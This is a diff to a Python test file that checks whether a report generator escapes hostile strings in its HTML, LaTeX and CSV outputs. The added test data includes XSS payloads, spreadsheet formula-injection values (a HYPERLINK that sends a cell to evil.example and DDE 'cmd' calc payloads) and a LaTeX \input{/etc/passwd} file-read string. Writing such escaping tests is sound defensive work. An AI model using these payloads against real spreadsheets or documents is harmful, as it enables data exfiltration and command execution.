@@ -20,6 +20,9 @@ from ablate.study import expand, load_study
 from ablate.study.expand import config_dict, short, trial_id
 
 XSS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0"]  # a spreadsheet would run these as formulas
+TEX = r"\input{/etc/passwd} $x^2$ & 100% #1 _a_ ~{}"
 T0 = 1_700_000_000.0
 
 
@@ -50,7 +53,7 @@ def _study(tmp_path: Path):
     path.write_text(yaml.safe_dump({
         "name": "xss", "description": f"tricks {XSS[0]} and {XSS[1]}",
         "train": {"epochs": 2}, "scheduler": {"name": "none"},
-        "factors": {"model.pretrained": XSS},  # any string validates: it is only read when a trial builds
+        "factors": {"model.pretrained": [*XSS, *FORMULAS, TEX]},  # any string validates: read only when a trial builds
         "seeds": [0, 1],
     }))
     return load_study(path)
@@ -98,3 +101,14 @@ def test_user_strings_are_escaped_in_the_page_and_the_tables(tmp_path, monkeypat
     assert "<script" not in md and "<img" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md
     tex = paths["tex"].read_text()
     assert "<" not in tex and r"\textless{}script\textgreater{}" in tex
+    assert TEX not in tex  # the raw string nowhere: only its escaped form below
+    assert r"\textbackslash{}input\{/etc/passwd\} \$x\textasciicircum{}2\$ \& 100\% \#1 \_a\_ \textasciitilde{}\{\}" in tex
+
+    import csv
+
+    with paths["csv"].open(newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    for formula in FORMULAS:
+        assert formula not in [c for c in cells if not c.startswith("'")] and "'" + formula in cells
+    assert not [c for c in cells if c and c[0] in "=+@"]  # no cell a spreadsheet would evaluate
+    assert any(c.startswith("-0.") or c == "0.0" for c in cells)  # numbers stay numbers (a negative delta too)
